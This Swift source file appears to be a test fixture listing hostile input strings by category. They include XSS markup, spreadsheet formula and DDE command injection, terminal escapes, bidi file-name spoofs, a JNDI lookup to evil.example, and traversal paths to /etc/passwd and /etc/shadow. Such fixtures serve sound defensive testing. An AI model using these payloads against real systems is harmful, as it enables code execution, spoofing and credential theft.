/// Texts that try to act where they are shown.
enum HostileText {
    static let markup = [
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "' onmouseover='alert(1)",
        "</title><svg/onload=1>",
        "<a href=\"javascript:alert(1)\">x</a>", "]]><!--", "&lt;script&gt;", "</style><script>",
        "<base href=//evil.example>",
    ]
    static let formulas = [
        "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "＝1+1", "=\"a\",\"b\"",
        "\u{FEFF}=1+1", "\"=1+1", "\u{A0}@x",
    ]
    static let terminal = [
        "\u{1B}[31mred", "\u{1B}]0;title\u{7}", "\u{9B}2J", "a\u{8}\u{8}b", "\u{7F}", "x\u{0}y", "line\u{0}\u{1B}c",
    ]
    static let reordering = [
        "invoice\u{202E}fdp.exe", "\u{2066}a\u{2069}", "\u{200F}x", "a\u{200B}b", "\u{061C}", "tag\u{E0041}",
        "\u{FEFF}bom", "\u{FFFE}",
    ]
    static let markdown = [
        "[x](javascript:alert(1))", "![x](http://evil.example/a.png)", "**bold** `code`", "# heading", "> quote",
        "| a | b |", "http://evil.example", "www.evil.example", "1. item", "- item", "a\n\n<b>", "~~x~~", "\\*",
    ]
    static let injection = [
        "x' OR [file:name = 'y", #"x\' OR [file:name = 'y"#, #"back\\slash\"#, "'", "\"", "\u{2019}\u{201C}",
        "a'] OR ['b",
        "x\" - T0000\", tlp:clear=\"", "T1059\"\nmisp-galaxy:mitre-tool=\"x", "${jndi:ldap://evil.example}", "%s%n%00",
        "{\"a\": 1}", "one\ntwo\r\nthree", "a\u{2028}b\u{2029}c",
    ]
    static let paths = [
        "../../etc/passwd", #"..\..\windows\win.ini"#, "/etc/shadow", #"\\evil.example\share\x"#, "C:", "NUL", ".",
    ]
    /// All of them, one after another.
    static let everything = all.joined(separator: " ")
    /// Each of them alone.
    static let all = markup + formulas + terminal + reordering + markdown + injection + paths
}
